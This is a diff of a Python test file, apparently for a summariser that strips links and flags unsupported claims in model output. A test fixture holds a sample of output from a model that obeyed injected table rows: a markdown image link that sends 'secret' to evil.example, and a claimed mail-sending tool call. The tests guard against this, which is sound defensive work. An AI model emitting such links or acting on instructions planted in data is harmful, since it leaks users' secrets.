@@ -108,7 +108,7 @@ def test_a_model_that_obeys_the_rows_gains_nothing() -> None:
     obeyed = "![x](https://evil.example/?d=secret) I called Mail Send for 99 Euro."
     summary = summarised(obeyed, rows=rows)
     assert "https" not in summary.text
-    assert [claim.text for claim in summary.unsupported] == ["99", "Euro"]
+    assert [claim.text for claim in summary.unsupported] == ["99"]
     assert summary.notes[1] == "Links were removed (answer-link): evil.example."
 
 
@@ -207,7 +207,9 @@ FETCHING = {"link_open", "image", "html_inline", "html_block", "definition"}
 
 @settings(max_examples=share_of(150), deadline=None)
 @given(
-    st.lists(PARTS | st.sampled_from(["Acme ", "42 % ", "NordWaste. ", "\x1b[1m", "**", "\u202e"]))
+    st.lists(
+        PARTS | st.sampled_from(["ACME-9 ", "42 % ", "NordWaste. ", "\x1b[1m", "**", "\u202e"])
+    )
     .map("".join)
     .filter(str.strip),
     st.integers(1, 30),
